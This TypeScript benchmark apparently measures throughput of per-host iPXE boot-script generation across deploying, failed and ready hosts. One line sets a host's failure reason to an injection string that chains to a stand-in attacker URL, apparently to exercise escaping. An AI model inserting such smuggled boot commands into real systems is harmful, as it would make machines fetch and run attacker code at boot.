// Per-host iPXE script throughput: GET /boot/host.ipxe for hosts in each
// boot-relevant state (deploying with a deployment holding ~1 MiB of
// rendered install files, failed, ready), through fastify inject on an
// in-memory SQLite controller, i.e. the handler's own cost without sockets.
// Bounded: a fixed number of requests per round. Prints requests per second.
// Run: npx tsx bench/host-script.bench.ts [--quick]
import { createTestController } from '../test/support/controller.js';

const quick = process.argv.includes('--quick');
const N = quick ? 2000 : 10_000;
const CONC = 32;

const c = await createTestController();
const auth = { authorization: c.bearer.admin };
const macs: Record<string, string> = {
  deploying: '52:54:00:bb:00:01',
  failed: '52:54:00:bb:00:02',
  ready: '52:54:00:bb:00:03',
};
for (const [state, mac] of Object.entries(macs)) {
  const r = await c.app.inject({
    method: 'POST',
    url: '/api/v1/hosts',
    headers: auth,
    payload: { name: `bench-${state}`, nics: [{ mac }], profile: 'debian-12', state: 'ready' },
  });
  if (r.statusCode !== 201) throw new Error(r.body);
}
const d = await c.app.inject({
  method: 'POST',
  url: '/api/v1/hosts/bench-deploying/deploy',
  headers: auth,
  payload: { variables: {} },
});
if (d.statusCode !== 200) throw new Error(d.body);
// Make the stored deployment as large as a big install set: the script path must not pay for it.
await c.db
  .updateTable('deployments')
  .set({ files: JSON.stringify({ 'preseed.cfg': 'x'.repeat(1 << 20) }) })
  .execute();
await c.inventory.transition((await c.inventory.getHost('bench-failed')).id, 'failed', {
  actor: 'bench',
  reason: 'disk error && chain http://evil.test/x',
});

for (const [state, mac] of Object.entries(macs)) {
  const url = `/boot/host.ipxe?mac=${encodeURIComponent(mac)}&arch=x86_64&platform=pcbios`;
  const first = await c.app.inject({ method: 'GET', url });
  if (first.statusCode !== 200) throw new Error(first.body);
  let next = 0;
  const t0 = performance.now();
  await Promise.all(
    Array.from({ length: CONC }, async () => {
      while (next < N) {
        next++;
        await c.app.inject({ method: 'GET', url });
      }
    }),
  );
  const s = (performance.now() - t0) / 1000;
  console.log(`${state.padEnd(10)} ${Math.round(N / s)} scripts/s (${N} requests, ${CONC} in flight)`);
}
await c.close();
